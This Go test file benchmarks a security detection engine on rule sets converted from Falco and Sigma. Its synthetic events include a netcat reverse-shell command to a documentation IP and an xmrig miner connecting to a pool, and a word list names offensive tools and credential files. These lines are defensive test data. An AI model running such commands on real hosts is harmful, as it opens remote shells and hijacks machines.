package engine_test

import (
	"fmt"
	"hash/fnv"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/engine"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/importer"
	"github.com/vigil-sec/vigil/internal/importer/convert"
	"github.com/vigil-sec/vigil/internal/importer/falco"
	"go.yaml.in/yaml/v3"
)

// The rule sets of the scaling benchmark: the shipped pack, plus rules converted
// from Falco and Sigma rule files, plus variants of the converted rules with other
// literal values (paths, program names, ports), which is what a large rule set
// looks like: many rules of few shapes with different constants.

// BenchRulesEnv names Falco and Sigma rule files and directories, comma-separated,
// that BenchmarkEvalRuleCorpus converts and loads with the pack (unset: skipped).
const BenchRulesEnv = "VIGIL_BENCH_RULES"

// scaleSource is the project's own Falco and Sigma rules for the benchmark.
const scaleSource = "testdata/scale"

// convDoc is one converted rule: its D&R document and the name it loads under.
type convDoc struct {
	name string
	yaml []byte
}

// falcoSetOrder is the order Falco loads its own syscall rules files in, as one
// set; every other Falco file of a directory is a set of its own.
var falcoSetOrder = []string{"falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"}

// ruleFiles expands paths (files and directories, walked recursively) into rule
// files, in order: the files of a directory sorted by path.
func ruleFiles(paths []string) ([]string, error) {
	var out []string
	for _, p := range paths {
		st, err := os.Stat(p)
		if err != nil {
			return nil, fmt.Errorf("rules for the benchmark: %w", err)
		}
		if !st.IsDir() {
			out = append(out, p)
			continue
		}
		err = filepath.WalkDir(p, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.IsDir() && engine.IsRuleFile(path) {
				out = append(out, path)
			}
			return nil
		})
		if err != nil {
			return nil, fmt.Errorf("rules for the benchmark: %w", err)
		}
	}
	return out, nil
}

// convertFiles converts every Falco and Sigma rule file under paths into D&R
// documents, skipping the rules the importers or the engine refuse (and files of
// neither format). Falco's own syscall files are converted as one set in the order
// Falco loads them; every other Falco file is a set of its own. Converted Falco
// rules are kept whether or not the files enable them.
func convertFiles(paths []string) (docs []convDoc, err error) {
	files, err := ruleFiles(paths)
	if err != nil {
		return nil, err
	}
	names := importer.Names{}
	keep := func(prefix string, rs []importer.Rule) {
		for _, r := range rs {
			if _, err := engine.Parse(r.FileName(), r.YAML); err != nil {
				continue
			}
			docs = append(docs, convDoc{names.Unique(prefix + r.Name), r.YAML})
		}
	}
	var falcoSet []falco.File
	var falcoAlone [][]falco.File
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			return nil, fmt.Errorf("rules for the benchmark: %w", err)
		}
		switch importer.Sniff(data) {
		case importer.Falco:
			ff := falco.File{Name: f, Data: data}
			if slices.Contains(falcoSetOrder, filepath.Base(f)) {
				falcoSet = append(falcoSet, ff)
			} else {
				falcoAlone = append(falcoAlone, []falco.File{ff})
			}
		case importer.Sigma:
			rs, _, _, err := convert.File(f, data, importer.Sigma)
			if err != nil {
				continue // a file the importer refuses whole
			}
			keep("sigma_", rs)
		}
	}
	slices.SortStableFunc(falcoSet, func(a, b falco.File) int {
		return slices.Index(falcoSetOrder, filepath.Base(a.Name)) - slices.Index(falcoSetOrder, filepath.Base(b.Name))
	})
	sets := falcoAlone
	if len(falcoSet) > 0 {
		sets = append([][]falco.File{falcoSet}, sets...)
	}
	for _, set := range sets {
		res, err := convert.FalcoSet(set)
		if err != nil {
			return nil, fmt.Errorf("rules for the benchmark: %w", err)
		}
		for _, o := range res.Outcomes {
			keep("falco_", o.Rules)
		}
	}
	return docs, nil
}

// variantWords replace the last word of a literal in variants: program, file and
// directory names as large rule sets carry them.
var variantWords = []string{"socat", "chisel", "frpc", "ligolo", "pspy64", "linpeas", "gost", "xmrig",
	"kinsing", "kdevtmpfsi", "rathole", "sliver", "dnscat2", "iodine", "proxychains", "hydra", "medusa",
	"hashcat", "lazagne", "gsocket", "tmate", "cloudflared", "bore", "masscan", "zgrab", "nuclei",
	"authorized_keys2", "known_hosts", "id_ecdsa", "krb5.keytab", "shadow-", "passwd-", "crontab",
	"anacrontab", "rc.local", "motd", "profile.d", "modules-load.d", "ld.so.conf", "hosts.allow", "exports"}

// variant returns the D&R document doc with its literal values changed, the k-th
// of its variants: the last word of each string value becomes another name, each
// positive number another one (ports); regular expressions and prefixes stay.
func variant(doc []byte, k int) ([]byte, error) {
	var n yaml.Node
	if err := yaml.Unmarshal(doc, &n); err != nil {
		return nil, err
	}
	walkKeys(&n, func(key string, v *yaml.Node) bool {
		switch {
		case key == "value" && v.Kind == yaml.ScalarNode:
			v.Value = varyLiteral(v.Value, k)
		case key == "values" && v.Kind == yaml.SequenceNode:
			for _, it := range v.Content {
				it.Value = varyLiteral(it.Value, k)
			}
		default:
			return false
		}
		return true
	})
	return yaml.Marshal(&n)
}

// walkKeys calls visit with each key of the mappings below n and its value,
// and walks on into a value visit did not take (returned false).
func walkKeys(n *yaml.Node, visit func(key string, v *yaml.Node) bool) {
	if n.Kind == yaml.MappingNode {
		for i := 0; i+1 < len(n.Content); i += 2 {
			if v := n.Content[i+1]; !visit(n.Content[i].Value, v) {
				walkKeys(v, visit)
			}
		}
		return
	}
	for _, c := range n.Content {
		walkKeys(c, visit)
	}
}

func varyLiteral(s string, k int) string {
	if n, err := strconv.ParseInt(s, 10, 64); err == nil {
		if n <= 0 {
			return s // error codes, uid 0: the same condition
		}
		return strconv.FormatInt(1+(n+int64(k)*97)%65000, 10)
	}
	// the last run of letters, digits, _ and - is replaced
	end := len(s)
	for end > 0 && !wordByte(s[end-1]) {
		end--
	}
	start := end
	for start > 0 && wordByte(s[start-1]) {
		start--
	}
	if start == end {
		return s
	}
	h := fnv.New32a()
	h.Write([]byte(s))
	w := variantWords[(int(h.Sum32()%uint32(len(variantWords)))+k*7)%len(variantWords)]
	return s[:start] + w + s[end:]
}

func wordByte(c byte) bool {
	return c == '_' || c == '-' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

// parseDocs compiles converted documents.
func parseDocs(tb testing.TB, docs []convDoc) []*engine.Rule {
	tb.Helper()
	out := make([]*engine.Rule, 0, len(docs))
	for _, d := range docs {
		r, err := engine.Parse(d.name+".yaml", d.yaml)
		if err != nil {
			tb.Fatalf("rule %s: %v", d.name, err)
		}
		out = append(out, r)
	}
	return out
}

func packRules(tb testing.TB) []*engine.Rule {
	tb.Helper()
	rs, err := engine.Load(os.DirFS("../../rules"), ".")
	if err != nil {
		tb.Fatal(err)
	}
	return rs
}

// scaleRules returns n rules (n ≤ 0: the pack and the converted rules, no
// variants): the pack, the rules converted from testdata/scale, then variants of
// the converted rules until there are n.
func scaleRules(tb testing.TB, n int) []*engine.Rule {
	tb.Helper()
	docs, err := convertFiles([]string{scaleSource})
	if err != nil {
		tb.Fatal(err)
	}
	if len(docs) < 36 {
		tb.Fatalf("%s converts to %d rules, want at least 36", scaleSource, len(docs))
	}
	rules := append(packRules(tb), parseDocs(tb, docs)...)
	for k := 1; len(rules) < n; k++ {
		for _, d := range docs {
			if len(rules) >= n {
				break
			}
			y, err := variant(d.yaml, k)
			if err != nil {
				tb.Fatalf("variant of %s: %v", d.name, err)
			}
			r, err := engine.Parse(fmt.Sprintf("%s_v%d.yaml", d.name, k), y)
			if err != nil {
				tb.Fatalf("variant %d of %s: %v", k, d.name, err)
			}
			rules = append(rules, r)
		}
	}
	return rules
}

// corpusRules returns the pack and every rule converted from the files and
// directories BenchRulesEnv names; ok is false when it is unset.
func corpusRules(tb testing.TB) (rules []*engine.Rule, ok bool) {
	tb.Helper()
	spec := os.Getenv(BenchRulesEnv)
	if spec == "" {
		return nil, false
	}
	var paths []string
	for _, p := range strings.Split(spec, ",") {
		if p = strings.TrimSpace(p); p != "" {
			paths = append(paths, p)
		}
	}
	docs, err := convertFiles(paths)
	if err != nil {
		tb.Fatal(err)
	}
	return append(packRules(tb), parseDocs(tb, docs)...), true
}

// scaleMix is the event mix of the scaling benchmark: the benign mix of the pack
// benchmark with what a busy host adds (containers, libraries and configuration
// read at every start, lookups of cloud endpoints), and a few events that fire.
func scaleMix() []event.Event {
	mix := engine.BenignMix()
	base := func(typ event.Type, pid uint32) event.Event {
		return event.Event{SensorID: "i-0abc", Hostname: "web-1", Tags: []string{"env:prod", "role:web"},
			Type: typ, TimeNanos: 1763800000000000000, ID: "01KAQ0000000000000000000AB",
			PID: pid, PPID: 4100, UID: 0, GID: 0, User: "root"}
	}
	add := func(n int, e event.Event) {
		for i := 0; i < n; i++ {
			e.PID++
			mix = append(mix, e)
		}
	}
	e := base(event.FileOpen, 7000)
	e.FilePath, e.CommandLine, e.TargetPath, e.FileFlags = "/usr/bin/bash", "bash -c make", "/etc/ld.so.cache", "read"
	add(6, e)
	e.TargetPath = "/usr/lib/x86_64-linux-gnu/libc.so.6"
	add(6, e)
	e.FilePath, e.CommandLine, e.TargetPath = "/usr/sbin/sshd", "sshd: ci [priv]", "/etc/passwd"
	add(3, e)
	e.TargetPath = "/etc/shadow"
	add(1, e)
	e.FilePath, e.CommandLine, e.TargetPath = "/usr/bin/containerd", "/usr/bin/containerd", "/run/containerd/io.containerd.runtime.v2.task/k8s.io/3f2a/rootfs/proc/self/stat"
	add(4, e)
	e.FilePath, e.CommandLine, e.TargetPath, e.FileFlags = "/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", "/var/log/journal/4b1c/system.journal", "write"
	add(3, e)
	e = base(event.NewProcess, 7100)
	e.FilePath, e.CommandLine, e.ParentFilePath, e.ParentCommandLine = "/usr/bin/sh", "/bin/sh -c /usr/local/bin/healthcheck", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io"
	e.ContainerID, e.ContainerImage, e.PodName, e.PodNamespace = "3f2a9c1e7b44", "registry.example.com/web/api:1.42.0", "api-7d9f8-xk2pq", "prod"
	add(4, e)
	e.FilePath, e.CommandLine = "/usr/local/bin/healthcheck", "/usr/local/bin/healthcheck --port 8080"
	e.ParentFilePath, e.ParentCommandLine = "/usr/bin/sh", "/bin/sh -c /usr/local/bin/healthcheck"
	add(4, e)
	e = base(event.NewProcess, 7200)
	e.FilePath, e.CommandLine, e.ParentFilePath, e.ParentCommandLine = "/usr/bin/python3", "python3 -m pip install -r requirements.txt", "/usr/bin/bash", "bash ./ci/build.sh"
	e.User, e.UID = "ci", 1001
	add(2, e)
	e.FilePath, e.CommandLine = "/usr/bin/grep", "grep -r TODO src/"
	add(2, e)
	e = base(event.TerminateProcess, 7300)
	e.FilePath = "/usr/local/bin/healthcheck"
	add(6, e)
	e = base(event.DNSRequest, 7400)
	e.FilePath, e.DomainName, e.DNSType = "/usr/bin/python3", "s3.eu-west-1.amazonaws.com", "A"
	add(3, e)
	e.DomainName, e.DNSType = "api.github.com", "AAAA"
	add(2, e)
	e = base(event.NetworkConnect, 7500)
	e.FilePath, e.CommandLine, e.User, e.UID = "/usr/bin/python3", "python3 /opt/app/worker.py", "app", 1000
	e.Protocol, e.SourceIP, e.SourcePort, e.DestIP, e.DestPort = "tcp", "10.0.1.15", 40122, "52.218.40.9", 443
	add(4, e)
	e.FilePath, e.CommandLine = "/usr/bin/ssh", "ssh git@github.com"
	e.DestIP, e.DestPort = "140.82.121.4", 22
	add(1, e)
	// events that fire: a reverse shell through netcat, a miner's pool connection
	e = base(event.NewProcess, 7600)
	e.FilePath, e.CommandLine, e.ParentFilePath, e.ParentCommandLine = "/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444", "/usr/bin/bash", "bash"
	e.User, e.UID = "www-data", 33
	add(1, e)
	e = base(event.NetworkConnect, 7700)
	e.FilePath, e.CommandLine = "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example.net:3333"
	e.Protocol, e.SourceIP, e.SourcePort, e.DestIP, e.DestPort = "tcp", "10.0.1.15", 40999, "198.51.100.8", 3333
	add(1, e)
	return mix
}

// TestScaleRules checks the benchmark's rule sets: the testdata converts to enough
// rules of both formats, the sets have the sizes asked for, and the variants differ
// from the rules they vary.
func TestScaleRules(t *testing.T) {
	docs, err := convertFiles([]string{scaleSource})
	if err != nil {
		t.Fatal(err)
	}
	var nFalco, nSigma int
	for _, d := range docs {
		switch {
		case strings.HasPrefix(d.name, "falco_"):
			nFalco++
		case strings.HasPrefix(d.name, "sigma_"):
			nSigma++
		}
	}
	t.Logf("%s: %d Falco and %d Sigma rules converted", scaleSource, nFalco, nSigma)
	if nFalco < 20 || nSigma < 14 {
		t.Errorf("converted %d Falco and %d Sigma rules, want at least 20 and 14", nFalco, nSigma)
	}
	for _, n := range []int{250, 1000} {
		rs := scaleRules(t, n)
		if len(rs) != n {
			t.Errorf("scaleRules(%d) returned %d rules", n, len(rs))
		}
		if _, err := engine.New(rs); err != nil {
			t.Errorf("scaleRules(%d): %v", n, err)
		}
	}
	for _, d := range docs[:5] {
		v, err := variant(d.yaml, 1)
		if err != nil {
			t.Fatal(err)
		}
		if string(v) == string(d.yaml) {
			t.Errorf("variant of %s is the same rule:\n%s", d.name, v)
		}
	}
}
